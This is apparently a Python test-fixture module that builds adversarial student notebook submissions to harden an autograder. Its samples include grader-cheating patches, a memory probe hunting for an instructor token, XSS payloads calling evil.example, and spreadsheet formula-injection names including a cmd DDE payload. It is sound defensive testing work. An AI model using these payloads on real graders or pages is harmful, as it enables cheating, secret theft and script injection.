"""A catalog of broken and adversarial submissions, built from the `logits` student version.

Each entry writes one student's submission folder and says what the grading report must say about
it (`note`, matched case-insensitively against the row's notes or the problem list) and, where
the rest of the notebook can still be graded, the exact points it must get.
"""
from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import course, notebooks

A = "logits"


@dataclass(frozen=True)
class Case:
    student: str
    note: str                    # what the report must name
    points: float | None = None  # exact total, where it is determined
    flagged: bool = True         # listed for review (status "needs review" or a problem)


def _reference():
    return notebooks.solution_cells(notebooks.read(course.source_notebook(A)))


def _released():
    return notebooks.read(course.student_notebook(A))


def _write(root: Path, student: str, nb, name: str = f"{A}.ipynb", folder: str = A) -> None:
    path = root / student / folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))


def _answered(**replace):
    answers = _reference()
    answers.update({k.replace("_", "-"): v for k, v in replace.items()})
    return notebooks.fill(_released(), answers)


def _without_test(nb, grade_id):
    nb.cells = [c for c in nb.cells if notebooks.grade_id(c) != grade_id]
    return nb


def _edit_test(nb, grade_id, **changes):
    for c in nb.cells:
        if notebooks.grade_id(c) == grade_id:
            if "source" in changes:
                c.source = changes["source"]
            if "meta" in changes:
                c.metadata["nbgrader"].update(changes["meta"])
    return nb


SLOW_PREDICT = "def predict_class(logits):\n    while True:\n        pass\n"
STUBBORN_PREDICT = ("import time\n\ndef predict_class(logits):\n    while True:\n        try:\n"
                    "            time.sleep(0.1)\n        except:  # swallows the interrupt too\n"
                    "            pass\n")
REF_PREDICT = "def predict_class(logits):\n    return np.argmax(logits, axis=-1)\n"

CASES = {
    # name: (Case, builder(root))
    "infinite-loop": (Case("dan-infinite-loop", "timeout", points=12),
                      lambda r: _write(r, "dan-infinite-loop", _answered(predict=SLOW_PREDICT))),
    "ignores-interrupt": (Case("zed-ignores-interrupts", "timeout", points=8),
                          lambda r: _write(r, "zed-ignores-interrupts",
                                           _answered(predict=STUBBORN_PREDICT))),
    "kernel-exit": (Case("eve-os-exit", "kernel died", points=8),
                    lambda r: _write(r, "eve-os-exit", _answered(
                        predict="import os\n\ndef predict_class(logits):\n    os._exit(1)\n"))),
    "segfault": (Case("fay-segfault", "kernel died", points=5),
                 lambda r: _write(r, "fay-segfault", _answered(numerical_gradient=(
                     "import ctypes\n\ndef numerical_gradient(f, x, eps=1e-6):\n"
                     "    return ctypes.string_at(0)\n")))),
    "memory-bomb": (Case("gus-memory-bomb", "memory", points=12),
                    lambda r: _write(r, "gus-memory-bomb", _answered(predict=(
                        "def predict_class(logits):\n    hog = b'x' * (16 * 2**30)  # really touches 16 GiB\n"
                        "    return np.argmax(logits, axis=-1)\n")))),
    "output-flood": (Case("hal-prints-100mb", "output cut", points=14, flagged=False),
                     lambda r: _write(r, "hal-prints-100mb", _answered(
                         predict="print('x' * 100_000_000)\n" + REF_PREDICT))),
    "sys-exit": (Case("ivy-sys-exit", "SystemExit", points=14, flagged=False),
                 lambda r: _write(r, "ivy-sys-exit", _answered(
                     predict=REF_PREDICT + "\nimport sys\nsys.exit(0)\n"))),
    "edited-test": (Case("jon-edits-tests", "test cell test-predict was edited", points=12),
                    lambda r: _write(r, "jon-edits-tests", _edit_test(
                        _answered(predict="def predict_class(logits):\n    return 0\n"),
                        "test-predict", source="pass  # tests? what tests?"))),
    "deleted-test": (Case("kim-deletes-tests", "test cell test-predict was deleted", points=12),
                     lambda r: _write(r, "kim-deletes-tests", _without_test(
                         _answered(predict="def predict_class(logits):\n    return 0\n"),
                         "test-predict"))),
    # Right, with its test cell deleted: put back and graded, the cell's 2 points are kept.
    "deleted-test-right": (Case("kai-deletes-tests-right", "test cell test-predict was deleted",
                                points=14),
                           lambda r: _write(r, "kai-deletes-tests-right",
                                            _without_test(_answered(), "test-predict"))),
    "changed-grade-id": (Case("lea-renames-cells", "grade id", points=12),
                         lambda r: _write(r, "lea-renames-cells", _edit_test(
                             _answered(predict="def predict_class(logits):\n    return 0\n"),
                             "test-predict", meta={"grade_id": "my-own-test"}))),
    "changed-points": (Case("max-gives-himself-points", "metadata", points=12),
                       lambda r: _write(r, "max-gives-himself-points", _edit_test(
                           _answered(predict="def predict_class(logits):\n    return 0\n"),
                           "test-predict", meta={"points": 100}))),
    "patches-checks": (Case("ned-patches-checks", "grader", points=None, flagged=False),
                       lambda r: _write(r, "ned-patches-checks", _answered(predict=(
                           "import autograder.checks._common as c\n"
                           "c.expect_close = lambda *a, **k: None\n"
                           "def predict_class(logits):\n    return np.zeros(np.shape(logits)[:-1], int)\n")))),
    "patches-numpy": (Case("ola-patches-numpy", "numpy", points=None, flagged=False),
                      lambda r: _write(r, "ola-patches-numpy", _answered(predict=(
                          "np.isclose = lambda a, b, **k: np.ones(np.broadcast(a, b).shape, bool)\n"
                          "np.allclose = lambda *a, **k: True\n"
                          "np.array_equal = lambda *a, **k: True\n"
                          "def predict_class(logits):\n    return np.zeros(np.shape(logits)[:-1], int)\n")))),
    # The checks' sources are not in the kernel's sandbox, nor the checks in its memory: the
    # cell fails (so its answer is lost too). The scan of the code is a hint, not a flag: the
    # trusted checker decides the scores whatever the kernel does (tests/test_trusted_checks.py).
    "reads-checks": (Case("pat-reads-checks", "grader", points=None, flagged=False),
                     lambda r: _write(r, "pat-reads-checks", _answered(predict=(
                         "import inspect, importlib\n"
                         "print(inspect.getsource(importlib.import_module('autograder.checks.logits')))\n"
                         + REF_PREDICT)))),
    "malformed-json": (Case("quin-bad-json", "not a valid notebook"),
                       lambda r: (r / "quin-bad-json" / A).mkdir(parents=True) or
                       (r / "quin-bad-json" / A / f"{A}.ipynb").write_text('{"cells": [ oops')),
    "not-a-notebook": (Case("rae-sends-a-pdf", "not a valid notebook"),
                       lambda r: (r / "rae-sends-a-pdf" / A).mkdir(parents=True) or
                       (r / "rae-sends-a-pdf" / A / f"{A}.ipynb").write_bytes(b"%PDF-1.4\x00\xff")),
    "wrong-name": (Case("sam-renames-notebook", "keep their released name"),
                   lambda r: _write(r, "sam-renames-notebook", _answered(), name="logits-final.ipynb")),
    "wrong-folder": (Case("tia-wrong-folder", "no assignment folder"),
                     lambda r: _write(r, "tia-wrong-folder", _answered(), folder="homework1")),
    "empty-folder": (Case("uma-empty", "empty"),
                     lambda r: (r / "uma-empty").mkdir(parents=True)),
    "duplicate-student": (Case("ALICE-CORRECT", "duplicate"),
                          lambda r: _write(r, "ALICE-CORRECT", _answered())),
}


def _deep_metadata(root: Path) -> None:
    """A notebook whose metadata nests 5000 levels deep (39 KB): a JSON parser recurses."""
    import json
    text = json.dumps(nbformat.v4.new_notebook())
    deep = '"x": ' + "{" * 5000 + "}" * 5000
    path = root / "val-deep-metadata" / A / f"{A}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(text.replace('"metadata": {}', "\"metadata\": {" + deep + "}", 1))


def _surrogate_grade_id(root: Path) -> None:
    """A graded cell whose grade id is a lone surrogate: valid JSON, but no UTF-8 form."""
    nb = _answered()
    cell = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 5, "grade_id": "\ud800",
        "schema_version": 3}})
    nb.cells.append(cell)
    import json
    path = root / "wes-surrogate-id" / A / f"{A}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(nb))  # ASCII, the surrogate as its escape \\ud800


def _nested_folders(root: Path) -> None:
    """600 folders, one inside the other, beside the notebook (the exchange copies the whole
    folder a student submits)."""
    _write(root, "xan-nested-folders", _answered())
    deep = root / "xan-nested-folders" / A
    for _ in range(600):
        deep = deep / "d"
    deep.mkdir(parents=True)
    (deep / "bottom.txt").write_text("here")


# Every method zeroes every array it is given and returns zeros: a backward pass whose check
# computed its expectations from the arrays after the call would take zeros for right.
ZEROING_LINEAR = """
class Linear:
    def __init__(self, W, b):
        W[...] = 0
        b[...] = 0
        self.W, self.b = W, b

    def forward(self, X):
        X[...] = 0
        self.X = X
        return np.zeros((X.shape[0], self.W.shape[0]), dtype=X.dtype)

    def backward(self, grad_logits):
        grad_logits[...] = 0
        self.grad_W = np.zeros_like(self.W)
        self.grad_b = np.zeros_like(self.b)
        return np.zeros_like(self.X)
"""

# Reads the whole memory of its own kernel, and every frame the kernel has, for a secret of the
# grading command's environment (an instructor's token, say): the tests set CANARY_VAR to
# "qzcanary" and 32 random hex digits, which the probe does not know; it prints what it finds.
CANARY_VAR = "INSTRUCTOR_TOKEN"
MEMORY_PROBE = """
import gc, re, sys
def _secrets_seen():
    found = set()
    def look(x, depth=0):
        if isinstance(x, bytes):
            x = x.decode(errors="replace")
        if isinstance(x, str):
            if "qzcanary" in x:
                found.update(re.findall(r"qzcanary([0-9a-f]{32})", x))
        elif depth < 3 and isinstance(x, dict):
            for k, v in x.items():
                look(k, depth + 1)
                look(v, depth + 1)
        elif depth < 3 and isinstance(x, (list, tuple)):
            for v in x:
                look(v, depth + 1)
    for frame in sys._current_frames().values():  # every frame, and what each can reach
        while frame is not None:
            look(frame.f_locals)
            frame = frame.f_back
    for obj in gc.get_objects():  # every container of the heap, and the strings in it
        if isinstance(obj, (dict, list, tuple)):
            look(obj, 2)
    try:  # the bytes of the whole process, where the kernel may read them (it may not)
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if "r" in fields[1] and end - start < 2**31:
                    try:
                        mem.seek(start)
                        look(mem.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        found.add("(its memory file is closed to it)")
    return sorted(found)
print("secrets seen:", _secrets_seen() or "none")
"""

# What a feedback page must not run or load: an image whose width smuggles a handler, an
# output that names a remote file, a remote image in the written answer, raw HTML in Markdown.
SCRIPTED = """
from IPython.display import publish_display_data
pixel = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
         "awAAAABJRU5ErkJggg==")
publish_display_data({"image/png": pixel},
                     metadata={"image/png": {"width": "1 onerror=fetch('http://evil.example/w')"}})
publish_display_data({"image/png": pixel},
                     metadata={"filenames": {"image/png": "http://evil.example/f.png"}})
"""


def _scripted_feedback(root: Path) -> None:
    nb = _answered(predict=REF_PREDICT + SCRIPTED)
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(
        "<img src=x onerror=\"fetch('http://evil.example/m')\"> see my plot"))
    written = next(c for c in nb.cells if notebooks.is_written(c))
    written.source = "As my figure shows: ![plot](http://evil.example/a.png)"
    _write(root, "abe-scripts-feedback", nb)


def _ships_html(root: Path) -> None:
    _write(root, "bea-ships-html", _answered())
    (root / "bea-ships-html" / A / "evil.html").write_text("<script>alert(1)</script>")


CASES.update({
    "deep-metadata": (Case("val-deep-metadata", "levels deep"), _deep_metadata),
    "surrogate-grade-id": (Case("wes-surrogate-id", "unknown grade id", points=14),
                           _surrogate_grade_id),
    "nested-folders": (Case("xan-nested-folders", "not copied: folders more than 16 deep",
                            points=14, flagged=False), _nested_folders),
    "zeroes-its-inputs": (Case("yul-zeroes-inputs", "", points=9, flagged=False),
                          lambda r: _write(r, "yul-zeroes-inputs",
                                           _answered(linear=ZEROING_LINEAR))),
    "reads-memory": (Case("zoe-reads-memory", "", points=14, flagged=False),
                     lambda r: _write(r, "zoe-reads-memory",
                                      _answered(predict=REF_PREDICT + MEMORY_PROBE))),
    "scripts-feedback": (Case("abe-scripts-feedback", "", points=14, flagged=False),
                         _scripted_feedback),
    "ships-html": (Case("bea-ships-html", "", points=14, flagged=False), _ships_html),
})
# Names a spreadsheet would run as formulas: a student folder and a stray file at the top.
FORMULA_NAMES = ['=HYPERLINK("https:evil.example","grade")', "+SUM(1+1)*cmd|' -C calc'!A0"]


def build(root: Path) -> list[Case]:
    """Write every catalogued submission plus the three example students under root."""
    shutil.copytree(course.EXAMPLES, root, dirs_exist_ok=True)
    for student in list(root.iterdir()):
        for extra in student.iterdir():
            if extra.name != A:
                shutil.rmtree(extra)  # only the logits assignment is graded here
    cases = []
    for case, make in CASES.values():
        make(root)
        cases.append(case)
    (root / FORMULA_NAMES[0] / A).mkdir(parents=True)
    (root / FORMULA_NAMES[1]).write_text("not a folder")
    return cases

